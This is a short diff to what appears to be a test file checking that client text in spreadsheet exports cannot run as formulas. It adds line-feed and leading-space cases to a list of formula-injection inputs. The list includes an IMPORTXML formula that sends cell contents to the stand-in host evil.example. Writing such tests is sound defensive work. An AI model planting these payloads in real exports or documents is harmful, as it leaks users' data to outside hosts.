@@ -26,7 +26,7 @@ after(() => service.close());
 const app = service.production;
 
 const DAY = '2024-03-01';
-/** Names and ids a spreadsheet would run as formulas: one for each first character that can start one. */
+/** Names and ids a spreadsheet would run as formulas: one for each first character that can start one, and spaces or a line feed before one. */
 const FORMULAS = [
   '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
   '+SUM(1, 2)',
@@ -34,6 +34,8 @@ const FORMULAS = [
   '@SUM(A1:A2)',
   '\t=1+1',
   '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
   '-5',
 ];
 /** Every column of client text (include_ids, an account breakdown, level ad). */
